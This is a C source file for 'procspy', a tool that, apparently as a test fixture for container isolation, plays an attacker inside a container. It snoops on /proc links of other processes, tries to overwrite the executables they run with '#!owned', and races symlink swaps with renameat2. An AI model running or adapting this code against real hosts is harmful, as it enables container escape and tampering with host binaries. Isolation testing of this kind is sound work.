/* SPDX-License-Identifier: MIT */
/*
 * An attacker inside a container. procspy spy: print, once each, where every link below /proc/PID leads,
 * until killed. procspy overwrite: hold every program that other processes run (O_PATH), and try to write
 * it as soon as nobody runs it any more; says "held PATH" and "WROTE PATH". procspy swap A B...: exchange A
 * and B, and the next two, for ever.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define SEEN_MAX 512
#define HELD_MAX 256
#define EXCHANGE 2U /* of renameat2(2) */

static char *seen[SEEN_MAX];
static unsigned n_seen;

static void say_once(const char *what, const char *path)
{
	char line[4200];

	(void)snprintf(line, sizeof(line), "%s%s", what, path);
	for (unsigned i = 0; i < n_seen; i++)
		if (strcmp(seen[i], line) == 0)
			return;
	if (n_seen < SEEN_MAX)
		seen[n_seen++] = strdup(line);
	(void)puts(line);
	(void)fflush(stdout);
}

static void say_link(const char *what, const char *path)
{
	char to[4097];
	ssize_t n = readlink(path, to, sizeof(to) - 1);

	if (n < 0)
		return;
	to[n] = '\0';
	say_once(what, to);
}

static void spy_on(const char *pid)
{
	static const char *const links[] = {"exe", "cwd", "root"};
	char path[300];

	for (unsigned i = 0; i < 3; i++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		say_link("", path);
	}
	for (int fd = 0; fd < 32; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		say_link("", path);
	}
}

struct held {
	int fd;
	struct stat st;
};
static struct held held[HELD_MAX];
static unsigned n_held;

static void hold(const char *pid, const struct stat *own)
{
	char path[300];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || n_held == HELD_MAX ||
	    (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
		(void)close(fd);
		return;
	}
	for (unsigned i = 0; i < n_held; i++) {
		if (held[i].st.st_dev == st.st_dev && held[i].st.st_ino == st.st_ino) {
			(void)close(fd);
			return;
		}
	}
	say_link("held ", path);
	held[n_held++] = (struct held){fd, st};
}

static void try_to_write(void)
{
	for (unsigned i = 0; i < n_held; i++) {
		char path[64];
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		/* A program that runs cannot be written; whether its mount could be shows here. */
		say_once("chmod: ", chmod(path, 0755) < 0 ? strerror(errno) : "WROTE");
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0) {
			say_once("refused: ", strerror(errno));
			continue;
		}
		if (write(fd, "#!owned\n", 8) == 8)
			say_link("WROTE ", path);
		(void)close(fd);
	}
}

/* The links end outside, so who looks sees a name that is now what it was, now a way out. */
static int swap(char **pairs)
{
	(void)puts("ready");
	(void)fflush(stdout);
	for (;;)
		for (char **p = pairs; p[0] && p[1]; p += 2)
			if (syscall(SYS_renameat2, AT_FDCWD, p[0], AT_FDCWD, p[1], EXCHANGE) < 0 &&
			    errno != ENOENT) {
				perror(p[0]);
				return 1;
			}
}

int main(int argc, char **argv)
{
	bool overwrite = argc > 1 && strcmp(argv[1], "overwrite") == 0;
	struct stat own = {0};

	if (argc > 1 && strcmp(argv[1], "swap") == 0)
		return swap(argv + 2);
	(void)stat("/bin/busybox", &own);
	say_once("", "ready");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)) != NULL) {
			if (*e->d_name < '1' || *e->d_name > '9' || atoi(e->d_name) == getpid())
				continue;
			if (overwrite)
				hold(e->d_name, &own);
			else
				spy_on(e->d_name);
		}
		if (d)
			(void)closedir(d);
		if (overwrite)
			try_to_write();
	}
}
